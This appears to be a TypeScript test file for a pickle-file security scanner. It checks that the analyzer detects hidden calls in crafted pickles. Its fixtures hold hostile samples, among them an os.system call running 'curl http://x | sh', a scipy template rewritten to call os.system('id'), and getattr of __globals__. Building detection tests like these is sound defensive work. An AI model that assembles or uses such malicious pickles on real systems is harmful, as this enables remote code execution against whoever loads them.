/**
 * Value flow through known callables: a global handed to a callable that calls it counts as called, getattr
 * resolves to Class.attr, calling a computed value is reported, and instances' __setstate__ run their class's
 * code. Each case is one class of the scanner issue's "calls the machine does not see".
 */
import { describe, expect, it } from "vitest";
import type { Finding } from "../../core/finding.js";
import { analyzePickleBytes } from "./analyzer.js";
import { createTestContext } from "./testing/context.js";
import { pickle, type PickleAssembler } from "./testing/assembler.js";

async function findings(bytes: Buffer): Promise<Finding[]> {
  const t = createTestContext();
  await analyzePickleBytes(bytes, t.ctx);
  return t.findings;
}

/** "ruleId:severity:module.name" of every finding at medium or above. */
async function summary(p: PickleAssembler): Promise<string[]> {
  const list = await findings(p.stop().done());
  return list
    .filter((f) => f.severity !== "low" && f.severity !== "info")
    .map((f) => `${f.ruleId}:${f.severity}${f.evidence?.module !== undefined ? `:${String(f.evidence.module)}.${String(f.evidence.name)}` : ""}`);
}

const g = (p: PickleAssembler, module: string, name: string): PickleAssembler => p.global(module, name);

describe("callables that call what they are handed", () => {
  it("torch._tensor._rebuild_from_type_v2(func, …) calls func with the third argument", async () => {
    const q = g(pickle(2), "torch._tensor", "_rebuild_from_type_v2").mark();
    g(q, "evil.module", "run").global("torch", "Tensor").str("payload").tuple1().emptyDict().tuple().reduce();
    const out = await summary(q);
    expect(out).toContain("pickle/unknown-global-call:high:evil.module.run");
  });

  it("numpy.random._pickle.__generator_ctor(name, ctor) calls ctor", async () => {
    const p = g(pickle(2), "numpy.random._pickle", "__generator_ctor").str("MT19937");
    g(p, "pydoc", "pipepager").tuple2().reduce();
    const out = await summary(p);
    expect(out.some((s) => s.startsWith("pickle/dangerous-global:critical:pydoc.pipepager"))).toBe(true);
    const q = g(pickle(2), "numpy.random._pickle", "__generator_ctor").str("MT19937");
    g(q, "somelib.factory", "make").tuple2().reduce();
    expect(await summary(q)).toContain("pickle/unknown-global-call:high:somelib.factory.make");
  });

  it("copyreg._reconstructor(cls, base, state) calls base and instantiates cls", async () => {
    const p = g(pickle(2), "copyreg", "_reconstructor");
    g(p, "collections", "OrderedDict");
    g(p, "evil.module", "Base").none().tuple3().reduce();
    expect(await summary(p)).toContain("pickle/unknown-global-call:high:evil.module.Base");
  });

  it("builtins.type(name, bases, namespace) counts every callable of the namespace as called, and calling the class is a computed call", async () => {
    const p = g(pickle(2), "builtins", "type").str("X");
    g(p, "builtins", "object").tuple1().emptyDict().str("__init__");
    g(p, "evil.module", "hook").setitem().tuple3().reduce().emptyTuple().reduce();
    const out = await summary(p);
    expect(out).toContain("pickle/unknown-global-call:high:evil.module.hook");
    expect(out.some((s) => s.startsWith("pickle/computed-call:high"))).toBe(true);
  });

  it("collections.defaultdict(factory) calls its factory", async () => {
    const p = g(pickle(2), "collections", "defaultdict");
    g(p, "evil.module", "factory").tuple1().reduce();
    expect(await summary(p)).toContain("pickle/unknown-global-call:high:evil.module.factory");
  });

  it("backward hooks handed to _rebuild_tensor_v2 count as called, past the 64 items a container keeps", async () => {
    const q = g(pickle(2), "torch._utils", "_rebuild_tensor_v2").mark().none().binint1(0).emptyTuple().emptyTuple().newFalse();
    g(q, "collections", "OrderedDict").emptyTuple().reduce().mark();
    for (let i = 0; i < 70; i++) q.binint1(i).binint1(i);
    q.binint1(200);
    g(q, "evil.module", "hook").setitems().tuple().reduce();
    expect(await summary(q)).toContain("pickle/unknown-global-call:high:evil.module.hook");
  });
});

describe("computed argument tuples", () => {
  it("_rebuild_from_type_v2 handed its arguments through builtins.tuple([...]) still counts the callable as called", async () => {
    const p = g(pickle(2), "torch._tensor", "_rebuild_from_type_v2");
    g(p, "builtins", "tuple").mark();
    g(p, "evil.module", "run").global("torch", "Tensor").str("payload").tuple1().none().list().tuple1().reduce().reduce();
    expect(await summary(p)).toContain("pickle/unknown-global-call:high:evil.module.run");
  });

  it("getattr(obj, name, default) calls the default when the attribute is missing", async () => {
    const p = g(pickle(2), "builtins", "getattr");
    g(p, "collections", "OrderedDict").str("no_such_attribute");
    g(p, "evil.module", "fallback").tuple3().reduce().emptyTuple().reduce();
    expect(await summary(p)).toContain("pickle/unknown-global-call:high:evil.module.fallback");
  });
});

describe("getattr", () => {
  it("an enum member of a known-safe class is not a finding", async () => {
    const p = g(pickle(2), "builtins", "getattr");
    g(p, "torchvision.transforms.functional", "InterpolationMode").str("BILINEAR").tuple2().reduce();
    expect(await summary(p)).toEqual([]);
  });

  it("calling what getattr fetched is classified as Class.attr", async () => {
    const p = g(pickle(2), "builtins", "getattr");
    g(p, "collections", "OrderedDict").str("fromkeys").tuple2().reduce().emptyTuple().reduce();
    expect(await summary(p)).toContain("pickle/unknown-global-call:high:collections.OrderedDict.fromkeys");
  });

  it("getattr of a dangerous attribute is critical even when never called", async () => {
    const p = g(pickle(2), "builtins", "getattr");
    g(p, "collections", "OrderedDict").str("__globals__").tuple2().reduce();
    expect((await summary(p)).some((s) => s.startsWith("pickle/dangerous-global:critical:collections.OrderedDict.__globals__"))).toBe(true);
  });

  it("calling getattr of a computed owner is a computed call", async () => {
    const p = g(pickle(2), "builtins", "getattr");
    g(p, "builtins", "getattr").mark().tuple().reduce().str("x").tuple2().reduce().emptyTuple().reduce();
    expect((await summary(p)).some((s) => s.startsWith("pickle/computed-call:high"))).toBe(true);
  });
});

describe("instances and their state", () => {
  it("a stdlib class off the allowlist rebuilt with state is high: its __setstate__/__del__ run unvouched", async () => {
    const p = g(pickle(2), "copyreg", "_reconstructor");
    g(p, "string", "Formatter");
    g(p, "builtins", "object").none().tuple3().reduce().emptyDict().str("name").str("/etc/important").setitem().build();
    expect(await summary(p)).toContain("pickle/unknown-global-rebuilt:high:string.Formatter");
    // tempfile's closer deletes the file it names in __del__: denied outright.
    const q = g(pickle(2), "copyreg", "_reconstructor");
    g(q, "tempfile", "_TemporaryFileCloser");
    g(q, "builtins", "object").none().tuple3().reduce().emptyDict().build();
    expect((await summary(q)).some((s) => s.startsWith("pickle/dangerous-global:critical:tempfile._TemporaryFileCloser"))).toBe(true);
  });

  it("a rebuild-only class (gensim's Word2Vec trains in __init__) passes when rebuilt and is high when called", async () => {
    const rebuilt = g(pickle(2), "copyreg", "_reconstructor");
    g(rebuilt, "gensim.models.word2vec", "Word2Vec");
    g(rebuilt, "builtins", "object").none().tuple3().reduce().emptyDict().build();
    expect(await summary(rebuilt)).toEqual([]);
    const called = g(pickle(2), "gensim.models.word2vec", "Word2Vec").str("corpus.txt").tuple1().reduce();
    expect(await summary(called)).toContain("pickle/unknown-global-call:high:gensim.models.word2vec.Word2Vec");
  });

  it("a user's own class rebuilt with state stays medium", async () => {
    const p = g(pickle(2), "copyreg", "_reconstructor");
    g(p, "__main__", "TinyNet");
    g(p, "builtins", "object").none().tuple3().reduce().emptyDict().build();
    expect(await summary(p)).toEqual(["pickle/unknown-global-rebuilt:medium:__main__.TinyNet"]);
  });

  it("a scipy distribution whose template is scipy's own is a low note; any other template is critical", async () => {
    const template =
      "\ndef _parse_args(self, a, b,  loc=0, scale=1):\n    return (a, b, ), loc, scale\n\ndef _parse_args_rvs(self, a, b,  loc=0, scale=1, size=None):\n    return self._argcheck_rvs(a, b,  loc, scale, size=size)\n\ndef _parse_args_stats(self, a, b,  loc=0, scale=1, moments='mv'):\n    return (a, b, ), loc, scale, moments\n";
    const dist = (t: string): PickleAssembler => {
      const p = g(pickle(2), "copyreg", "_reconstructor");
      return g(g(p, "scipy.stats._continuous_distns", "beta_gen"), "builtins", "object").none().tuple3().reduce().emptyDict().str("_parse_arg_template").str(t).setitem().build();
    };
    const benign = await findings(dist(template).stop().done());
    expect(benign.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(["pickle/verified-state:low"]);
    const evil = await summary(dist(template.replace("return (a, b, ), loc, scale\n", "return __import__('os').system('id')\n")));
    expect(evil.some((s) => s.startsWith("pickle/state-code:critical"))).toBe(true);
  });

  it("SETITEMS on an instance of a class off the allowlist runs its __setitem__", async () => {
    const p = g(pickle(2), "copyreg", "_reconstructor");
    g(p, "shelve", "Shelf");
    g(p, "builtins", "object").none().tuple3().reduce().str("k").str("v").setitem();
    expect((await summary(p)).some((s) => s.includes("shelve.Shelf"))).toBe(true);
  });

  it("evidence shows the constant arguments of a call", async () => {
    const list = await findings(pickle(2).global("os", "system").str("curl http://x | sh").tuple1().reduce().stop().done());
    expect(list[0]?.evidence?.arguments).toBe('("curl http://x | sh")');
  });
});
